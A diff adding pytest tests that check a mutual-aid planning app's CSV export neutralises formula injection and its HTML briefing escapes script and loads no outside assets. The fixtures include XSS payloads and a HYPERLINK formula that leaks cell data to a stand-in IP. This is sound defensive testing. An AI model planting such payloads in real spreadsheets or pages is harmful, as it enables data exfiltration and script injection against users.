@@ -1,0 +1,167 @@
+"""Exports: the briefing as one HTML file, the plan as CSV (mutualaid.exports)."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+from pathlib import Path
+
+import pytest
+
+from mutualaid.allocation import allocate, flows_geojson
+from mutualaid.exports import (
+    STATIC_DIR,
+    ExportError,
+    briefing_html,
+    inline_assets,
+    neutralise_formula,
+    plan_csv,
+    top_unmet,
+)
+from mutualaid.maps.plan import plan_map
+from mutualaid.plan_figures import key_figures
+from mutualaid.scenario import load_scenario
+
+IMG = '<img src=x onerror="alert(1)">'
+BREAKOUT = "</script><script>alert(2)</script>"
+FORMULA = '=HYPERLINK("http://203.0.113.9/?leak="&A1,"click")'
+
+
+def _square(x: float, y: float) -> dict:
+    ring = [[x, y], [x + 1, y], [x + 1, y + 1], [x, y + 1], [x, y]]
+    return {"type": "Polygon", "coordinates": [ring]}
+
+
+def _write(path: Path, features: list[tuple[dict, dict]]) -> None:
+    path.write_text(json.dumps({"type": "FeatureCollection", "features": [
+        {"type": "Feature", "properties": props, "geometry": geom} for props, geom in features
+    ]}), encoding="utf-8")
+
+
+@pytest.fixture
+def hostile(tmp_path: Path):
+    """Dutch boats for a German flood; names and ids are formulas and script."""
+    folder = tmp_path / "hostile"
+    folder.mkdir()
+    _write(folder / "jurisdictions.geojson", [
+        ({"id": "DE-NW", "name": IMG, "country": "DE"}, _square(6.0, 50.0)),
+        ({"id": "NL-LI", "name": "Limburg", "country": "NL"}, _square(5.0, 50.0)),
+    ])
+    _write(folder / "incidents.geojson", [
+        ({"id": "=1+2", "name": IMG, "hazard": "flood", "severity": 5,
+          "reported_at": "2021-07-14T17:30:00Z", "needs": {"boat": 3, "pump": 1}},
+         {"type": "Point", "coordinates": [6.5, 50.5]}),
+        ({"id": "@SUM(A1)", "name": BREAKOUT, "hazard": "flood", "severity": 2,
+          "reported_at": "2021-07-14T17:30:00Z", "needs": {"boat": 1}},
+         {"type": "Point", "coordinates": [6.4, 50.4]}),
+    ])
+    _write(folder / "resources.geojson", [
+        ({"id": FORMULA, "name": IMG, "type": "boat", "quantity": 2},
+         {"type": "Point", "coordinates": [5.3, 50.2]}),
+    ])
+    (folder / "agreements.csv").write_text(
+        "from,to,resource_types,border_delay_min\nNL,DE,*,15\n", encoding="utf-8")
+    scenario = load_scenario(folder).scenario
+    assert scenario is not None
+    plan = allocate(scenario)
+    return scenario, plan
+
+
+def _rows(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text)))
+
+
+# --- formulas -------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("text", ["=1+2", "+1", "-1+A1", "@SUM(A1)", "\tx", "\r=1", FORMULA])
+def test_formula_starts_get_an_apostrophe(text):
+    assert neutralise_formula(text) == "'" + text
+
+
+@pytest.mark.parametrize("text", ["boat", "DE-NW", "I-1", "", "a=b", " =1"])
+def test_plain_text_is_left_alone(text):
+    assert neutralise_formula(text) == text
+
+
+def test_numbers_stay_numbers():
+    assert neutralise_formula(-2) == "-2"
+    assert neutralise_formula(12.5) == "12.5"
+    assert neutralise_formula(None) == ""
+
+
+def test_plan_csv_neutralises_every_hostile_cell(hostile):
+    _scenario, plan = hostile
+    assignments, unmet = plan_csv(plan)
+    a_rows, u_rows = _rows(assignments), _rows(unmet)
+    assert a_rows[0][:8] == ["resource_id", "incident_id", "type", "units", "minutes",
+                             "from_jurisdiction", "to_jurisdiction", "cross_border"]
+    assert u_rows[0][:4] == ["incident_id", "type", "units", "reason"]
+    assert len(a_rows) - 1 == len(plan.assignments) > 0
+    assert len(u_rows) - 1 == len(plan.unmet) > 0
+    cells = [c for row in a_rows + u_rows for c in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
+    assert not [c for c in cells if c.startswith("-") and not re.fullmatch(r"-[\d.]+", c)]
+    assert "'" + FORMULA in [row[0] for row in a_rows[1:]]  # the resource id, kept whole
+    assert {"'=1+2", "'@SUM(A1)"} & {row[0] for row in u_rows[1:]}
+
+
+# --- the briefing HTML ----------------------------------------------------------------------
+
+@pytest.fixture
+def page(hostile) -> str:
+    scenario, plan = hostile
+    m = plan_map(jurisdictions=scenario.jurisdictions, incidents=scenario.incidents,
+                 resources=scenario.resources, plan=plan.to_dict(),
+                 flows=flows_geojson(plan, scenario))
+    return briefing_html(title=IMG, map_=m, figures=key_figures(plan, scenario),
+                         updated_at="12:34:56")
+
+
+def test_hostile_text_is_escaped_in_the_briefing(page):
+    assert IMG not in page
+    assert BREAKOUT not in page
+    assert "Briefing: &lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in page
+    assert "<script>alert(2)" not in page
+
+
+def test_the_briefing_loads_nothing_from_anywhere(page):
+    tags = re.findall(r"<(?:script|link|img|iframe)\b[^>]*>", page, flags=re.IGNORECASE)
+    assert tags  # the inline scripts
+    assert not [t for t in tags if re.search(r"\b(?:src|href)\s*=", t, flags=re.IGNORECASE)]
+    assert not [t for t in tags if re.search(r"https?://", t, flags=re.IGNORECASE)]
+    assert "/app/static/" not in page
+
+
+def test_leaflet_is_inlined(page):
+    leaflet = (STATIC_DIR / "vendor" / "leaflet" / "leaflet.js").read_text(encoding="utf-8")
+    css = (STATIC_DIR / "vendor" / "leaflet" / "leaflet.css").read_text(encoding="utf-8")
+    assert leaflet[:2000] in page
+    assert ".leaflet-pane" in page and css.splitlines()[1] in page
+    assert "url(images/" not in page  # the layer icons are data: URLs
+    assert "url(data:image/png;base64," in page
+
+
+def test_the_briefing_shows_figures_and_the_most_severe_unmet_first(hostile, page):
+    scenario, plan = hostile
+    figures = key_figures(plan, scenario)
+    assert f"{figures.units_assigned} / {figures.units_needed}" in page
+    assert "Plan updated at 12:34:56" in page
+    table = top_unmet(figures)
+    assert table["Severity"].tolist() == sorted(table["Severity"].tolist(), reverse=True)
+    assert table["Reason"].str.len().gt(0).all()
+    unmet_section = page[page.index('class="mab-unmet"'):]
+    assert "=1+2" in unmet_section and "&lt;/script&gt;" in unmet_section
+
+
+def test_a_map_asset_from_a_cdn_is_refused():
+    cdn = '<script src="https://cdn.jsdelivr.net/npm/leaflet@1.9.3/dist/leaflet.js"></script>'
+    with pytest.raises(ExportError, match="not one of the app's own files"):
+        inline_assets(f"<html><head>{cdn}</head><body></body></html>")
+
+
+def test_a_missing_asset_is_reported(tmp_path):
+    tag = '<script src="/app/static/vendor/leaflet/leaflet.js"></script>'
+    with pytest.raises(ExportError, match="make assets"):
+        inline_assets(f"<head>{tag}</head>", static_dir=tmp_path)
